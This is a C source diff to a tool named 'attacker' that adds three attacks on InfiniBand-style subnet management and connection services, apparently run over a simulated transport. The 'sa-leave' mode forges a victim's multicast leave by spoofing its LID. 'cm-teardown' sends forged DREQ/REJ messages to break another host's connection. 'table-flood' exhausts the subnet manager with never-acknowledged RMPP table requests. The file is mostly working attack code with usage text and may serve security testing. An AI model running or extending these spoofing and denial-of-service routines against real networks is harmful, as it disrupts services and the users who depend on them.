@@ -38,6 +38,12 @@
  *	(its own SLID) and as the victim (SLID LID, from its own socket).
  *	Prints "record: found" (or "record: none"), then "as itself: STATUS"
  *	and "as the victim: STATUS" (the SA's status in hex, or "no answer").
+ *   attacker sa-leave SM LID MGID
+ *	The forged leave: becomes a port, asks the SA where LID lives (its
+ *	GID), then asks it to end that port's membership of group MGID
+ *	(an MCMemberRecord Delete, FullMember) twice: as itself and as the
+ *	victim (SLID LID, from its own socket).  Prints "as itself: STATUS"
+ *	and "as the victim: STATUS" (or "no answer").
  *   attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST QPN_LAST
  *	The blind stale-connection attack (IBA 12.4.1): a REQ for SERVICEID
  *	for each QPN from QPN_FIRST to QPN_LAST, as if from the CA CAGUID at
@@ -50,6 +56,19 @@
  *	as fast as the socket takes them, from this socket: every other one
  *	claims SLID (a live port elsewhere), the rest a random LID, each with
  *	a random comm ID and QPN.  Prints "sent: N" and "answers: N".
+ *   attacker cm-teardown TARGET SLID DLID CCOMM SCOMM SQPN COUNT
+ *	The forged teardown: COUNT times, to TARGET (the server of a
+ *	connection, at LID DLID, whose comm ID is SCOMM and QP SQPN), a DREQ
+ *	and a REJ as its client (LID SLID, comm ID CCOMM) would send them,
+ *	both comm IDs right, from this socket.  Prints "sent: N" and
+ *	"answers: N" (a DREP says the DREQ was believed).
+ *   attacker table-flood SM SECONDS
+ *	Becomes a port and registers ServiceRecords of its own until the SA
+ *	refuses one (a GetTable of them then spans many RMPP segments); then
+ *	for SECONDS asks for that table every millisecond and never ACKs a
+ *	segment, so that each answer waits at the SM.  Prints "records: N",
+ *	"asked: N", "segments: N" (what came of the answers, resends
+ *	included) and "refused: N" (ERR_NO_RESOURCES).
  *   attacker mad-flood SM SECONDS
  *	Becomes a port, then for SECONDS sends SM all the requests it can,
  *	as fast as the socket takes them, from its own LID: SA Gets of its
@@ -97,7 +116,7 @@ struct rx {
 	struct sib_endpoint from;
 	bool have_request;
 	struct sib_endpoint_record rec;
-	int sa_answers;
+	int sa_answers, sa_no_resources;
 	uint16_t sa_status;
 	uint8_t sa_data[IB_SA_DATA_BYTES]; /* the last SA answer's records */
 	uint64_t port_guid; /* acting as a port: listen_for answers the SM */
@@ -143,6 +162,7 @@ static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_en
 		if (mad[3] & IB_MAD_METHOD_RESP) {
 			r->sa_answers++;
 			r->sa_status = m.hdr.Status;
+			r->sa_no_resources += m.hdr.Status == IB_SA_STATUS_NO_RESOURCES;
 			memcpy(r->sa_data, m.SubnAdmData, sizeof(r->sa_data));
 			if (!m.hdr.Status && m.hdr.AttributeID == SIB_SA_ATTR_ENDPOINT_RECORD)
 				sib_endpoint_record_decode(&r->rec, m.SubnAdmData);
@@ -469,13 +489,10 @@ static uint16_t become_port(const struct sib_endpoint *sm, struct rx *r)
 	return r->active ? r->set_lid : 0;
 }
 
-/* One SA request from this socket claiming SLID slid; 1 when answered
- * (r->sa_status, r->sa_data), else 0. */
-static int sa_ask(const struct sib_endpoint *sm, struct rx *r, uint16_t slid, uint8_t method,
-		  uint16_t attr, uint64_t comp, const uint8_t *data, unsigned len)
+/* An SA request with a fresh TID into mad. */
+static void sa_mad(uint8_t *mad, uint8_t method, uint16_t attr, uint64_t comp, const uint8_t *data,
+		   unsigned len)
 {
-	uint8_t mad[IB_MAD_BYTES];
-	struct sib_mad_addr a;
 	struct ib_sa_mad m;
 
 	memset(&m, 0, sizeof(m));
@@ -486,8 +503,20 @@ static int sa_ask(const struct sib_endpoint *sm, struct rx *r, uint16_t slid, ui
 	m.hdr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
 	m.hdr.AttributeID = attr;
 	m.ComponentMask = comp;
-	memcpy(m.SubnAdmData, data, len);
+	if (len)
+		memcpy(m.SubnAdmData, data, len);
 	ib_sa_mad_encode(&m, mad);
+}
+
+/* One SA request from this socket claiming SLID slid; 1 when answered
+ * (r->sa_status, r->sa_data), else 0. */
+static int sa_ask(const struct sib_endpoint *sm, struct rx *r, uint16_t slid, uint8_t method,
+		  uint16_t attr, uint64_t comp, const uint8_t *data, unsigned len)
+{
+	uint8_t mad[IB_MAD_BYTES];
+	struct sib_mad_addr a;
+
+	sa_mad(mad, method, attr, comp, data, len);
 	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, slid);
 	r->sa_answers = 0;
 	sib_mgmt_send(link_, &a, mad, sm);
@@ -578,23 +607,30 @@ static int sa_delete(const struct sib_endpoint *sm, uint16_t lid, uint64_t sid)
 	return 0;
 }
 
-/* A REQ for service sid as if from CA guid's QP qpn at LID slid, to the
- * listener at LID dlid, with a fresh comm ID and TID: the MAD into mad. */
-static void forged_req(uint8_t *mad, uint64_t sid, uint64_t guid, uint32_t qpn, uint16_t slid,
-		       uint16_t dlid)
+/* A CM message's header (a Send) with attribute attr into mad. */
+static void cm_hdr(uint8_t *mad, uint16_t attr)
 {
 	struct ib_mad_hdr h;
-	struct ib_cm_req req;
 
 	memset(&h, 0, sizeof(h));
 	h.BaseVersion = IB_MAD_BASE_VERSION;
 	h.MgmtClass = IB_MGMT_CLASS_CM;
 	h.ClassVersion = IB_CM_CLASS_VERSION;
 	ib_mad_set_method(&h, IB_MAD_METHOD_SEND);
-	h.AttributeID = IB_CM_ATTR_REQ;
+	h.AttributeID = attr;
 	h.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
 	memset(mad, 0, IB_MAD_BYTES);
 	ib_mad_hdr_encode(&h, mad);
+}
+
+/* A REQ for service sid as if from CA guid's QP qpn at LID slid, to the
+ * listener at LID dlid, with a fresh comm ID and TID: the MAD into mad. */
+static void forged_req(uint8_t *mad, uint64_t sid, uint64_t guid, uint32_t qpn, uint16_t slid,
+		       uint16_t dlid)
+{
+	struct ib_cm_req req;
+
+	cm_hdr(mad, IB_CM_ATTR_REQ);
 	memset(&req, 0, sizeof(req));
 	req.LocalCommID = (uint32_t)rand() | 1;
 	req.ServiceID = sid;
@@ -609,6 +645,34 @@ static void forged_req(uint8_t *mad, uint64_t sid, uint64_t guid, uint32_t qpn, 
 	req.Primary.RemotePortLID = dlid;
 	req.Primary.LocalACKTimeout = 14;
 	ib_cm_req_encode(&req, mad + IB_CM_DATA_OFFSET);
+}
+
+static int sa_leave(const struct sib_endpoint *sm, uint16_t lid, const char *mgid)
+{
+	const uint64_t comp = IB_MCR_COMP_MGID | IB_MCR_COMP_PORT_GID | IB_MCR_COMP_JOIN_STATE;
+	uint8_t data[IB_MCMEMBER_RECORD_BYTES];
+	struct sib_endpoint_record victim;
+	struct ib_mcmember_record q;
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+	int answered;
+
+	memset(&q, 0, sizeof(q));
+	if (!me || endpoint_of(sm, &r, me, lid, &victim) ||
+	    inet_pton(AF_INET6, mgid, q.MGID.raw) != 1) {
+		printf("victim: none (%s)\n", me ? "no such LID, or a bad MGID" : "not configured");
+		return 0;
+	}
+	memcpy(q.PortGID.raw, victim.GID, 16);
+	q.JoinState = 1;
+	ib_mcmember_record_encode(&q, data);
+	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_DELETE, IB_SA_ATTR_MCMEMBER_RECORD, comp, data,
+			  sizeof(data));
+	print_status("as itself", answered, r.sa_status);
+	answered = sa_ask(sm, &r, lid, IB_MAD_METHOD_DELETE, IB_SA_ATTR_MCMEMBER_RECORD, comp, data,
+			  sizeof(data));
+	print_status("as the victim", answered, r.sa_status);
+	return 0;
 }
 
 static int cm_stale(const struct sib_endpoint *target, char **v)
@@ -689,6 +753,90 @@ static int sa_claim_listener(const struct sib_endpoint *sm, const char *ip, uint
 	return 0;
 }
 
+static int cm_teardown(const struct sib_endpoint *target, char **v)
+{
+	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
+	uint32_t ccomm = (uint32_t)strtoul(v[2], NULL, 0), scomm = (uint32_t)strtoul(v[3], NULL, 0);
+	uint8_t mad[IB_MAD_BYTES];
+	struct ib_cm_dreq dreq;
+	struct ib_cm_rej rej;
+	struct sib_mad_addr a;
+	struct rx r = { 0 };
+	int sent = 0;
+
+	sib_mad_addr_init(&a, SIB_QP1, dlid, slid);
+	for (int i = 0; i < atoi(v[5]); i++) {
+		cm_hdr(mad, IB_CM_ATTR_DREQ);
+		memset(&dreq, 0, sizeof(dreq));
+		dreq.LocalCommID = ccomm;
+		dreq.RemoteCommID = scomm;
+		dreq.RemoteQPN = (uint32_t)strtoul(v[4], NULL, 0);
+		ib_cm_dreq_encode(&dreq, mad + IB_CM_DATA_OFFSET);
+		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
+		cm_hdr(mad, IB_CM_ATTR_REJ);
+		memset(&rej, 0, sizeof(rej));
+		rej.LocalCommID = ccomm;
+		rej.RemoteCommID = scomm;
+		rej.MessageRejected = IB_CM_MSG_REP;
+		rej.Reason = IB_CM_REJ_CONSUMER_DEFINED;
+		ib_cm_rej_encode(&rej, mad + IB_CM_DATA_OFFSET);
+		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
+		listen_for(&r, 20);
+	}
+	listen_for(&r, 1000);
+	printf("sent: %d\nanswers: %d\n", sent, r.cm_stale + r.cm_other);
+	return 0;
+}
+
+static int table_flood(const struct sib_endpoint *sm, int seconds)
+{
+	uint8_t data[IB_SERVICE_RECORD_BYTES];
+	struct sib_endpoint_record me_rec;
+	struct ib_service_record q;
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+	int records = 0, asked = 0, answers, refused;
+	uint64_t end;
+
+	if (!me || endpoint_of(sm, &r, me, me, &me_rec)) {
+		printf("not configured\n");
+		return 0;
+	}
+	memset(&q, 0, sizeof(q));
+	memcpy(q.ServiceGID.raw, me_rec.GID, 16);
+	q.ServiceP_Key = 0xffff;
+	q.ServiceLease = 0xffffffffu;
+	for (int i = 0; i < 1000; i++) {
+		q.ServiceID = 0x0000f10d00000000ull | (uint64_t)i;
+		snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "flood %d", i);
+		ib_service_record_encode(&q, data);
+		if (!sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
+			    IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data)) ||
+		    r.sa_status)
+			break;
+		records++;
+	}
+	printf("records: %d\n", records);
+	fflush(stdout);
+	memset(data, 0, sizeof(data));
+	r.sa_answers = r.sa_no_resources = 0;
+	end = now_ns() + (uint64_t)seconds * 1000000000ull;
+	while (now_ns() < end) {
+		uint8_t mad[IB_MAD_BYTES];
+		struct sib_mad_addr a;
+
+		sa_mad(mad, IB_MAD_METHOD_GET_TABLE, IB_SA_ATTR_SERVICE_RECORD, 0, NULL, 0);
+		sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, me);
+		asked += sib_mgmt_send(link_, &a, mad, sm) == 0;
+		listen_for(&r, 1); /* answers counted, segments never ACKed */
+	}
+	listen_for(&r, 200);
+	answers = r.sa_answers;
+	refused = r.sa_no_resources;
+	printf("asked: %d\nsegments: %d\nrefused: %d\n", asked, answers - refused, refused);
+	return 0;
+}
+
 static int cm_flood(const struct sib_endpoint *target, char **v)
 {
 	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
@@ -725,7 +873,6 @@ static int mad_flood(const struct sib_endpoint *sm, int seconds)
 	size_t len[2];
 	struct sib_endpoint_record me_rec;
 	struct sib_mad_addr a;
-	struct ib_sa_mad m;
 	struct ib_smp smp;
 	struct rx r = { 0 };
 	uint16_t me = become_port(sm, &r);
@@ -740,16 +887,8 @@ static int mad_flood(const struct sib_endpoint *sm, int seconds)
 	memset(&me_rec, 0, sizeof(me_rec));
 	me_rec.LID = me;
 	sib_endpoint_record_encode(&me_rec, data);
-	memset(&m, 0, sizeof(m));
-	m.hdr.BaseVersion = IB_MAD_BASE_VERSION;
-	m.hdr.MgmtClass = IB_MGMT_CLASS_SUBN_ADM;
-	m.hdr.ClassVersion = IB_SA_CLASS_VERSION;
-	ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET);
-	m.hdr.TransactionID = 0x5a5a0001;
-	m.hdr.AttributeID = SIB_SA_ATTR_ENDPOINT_RECORD;
-	m.ComponentMask = SIB_EPR_COMP_LID;
-	memcpy(m.SubnAdmData, data, sizeof(data));
-	ib_sa_mad_encode(&m, mad);
+	sa_mad(mad, IB_MAD_METHOD_GET, SIB_SA_ATTR_ENDPOINT_RECORD, SIB_EPR_COMP_LID, data,
+	       sizeof(data));
 	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, me);
 	len[0] = sib_mgmt_build(&a, mad, pkt[0], sizeof(pkt[0]));
 	smp_hdr(&smp, IB_MAD_METHOD_GET, IB_SMP_ATTR_SM_INFO, 0);
@@ -779,9 +918,12 @@ static int usage(void)
 			"       attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN\n"
 			"       attacker sa-lookup SM LID\n"
 			"       attacker sa-delete SM LID SERVICEID\n"
+			"       attacker sa-leave SM LID MGID\n"
 			"       attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST "
 			"QPN_LAST\n"
 			"       attacker sa-claim-listener SM IP TCPPORT SECONDS\n"
+			"       attacker cm-teardown TARGET SLID DLID CCOMM SCOMM SQPN COUNT\n"
+			"       attacker table-flood SM SECONDS\n"
 			"       attacker mad-flood SM SECONDS\n"
 			"       attacker cm-flood TARGET SLID DLID SERVICEID SECONDS\n");
 	return 2;
@@ -819,12 +961,18 @@ int main(int argc, char **argv)
 		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
 	} else if (!strcmp(argv[1], "sa-claim-listener") && argc == 6) {
 		rc = sa_claim_listener(&target, argv[3], (uint16_t)atoi(argv[4]), atoi(argv[5]));
+	} else if (!strcmp(argv[1], "cm-teardown") && argc == 9) {
+		rc = cm_teardown(&target, argv + 3);
 	} else if (!strcmp(argv[1], "cm-flood") && argc == 7) {
 		rc = cm_flood(&target, argv + 3);
+	} else if (!strcmp(argv[1], "table-flood") && argc == 4) {
+		rc = table_flood(&target, atoi(argv[3]));
 	} else if (!strcmp(argv[1], "mad-flood") && argc == 4) {
 		rc = mad_flood(&target, atoi(argv[3]));
 	} else if (!strcmp(argv[1], "cm-stale") && argc == 9) {
 		rc = cm_stale(&target, argv + 3);
+	} else if (!strcmp(argv[1], "sa-leave") && argc == 5) {
+		rc = sa_leave(&target, (uint16_t)strtoul(argv[3], NULL, 0), argv[4]);
 	} else if (!strcmp(argv[1], "sa-delete") && argc == 5) {
 		rc = sa_delete(&target, (uint16_t)strtoul(argv[3], NULL, 0),
 			       strtoull(argv[4], NULL, 0));
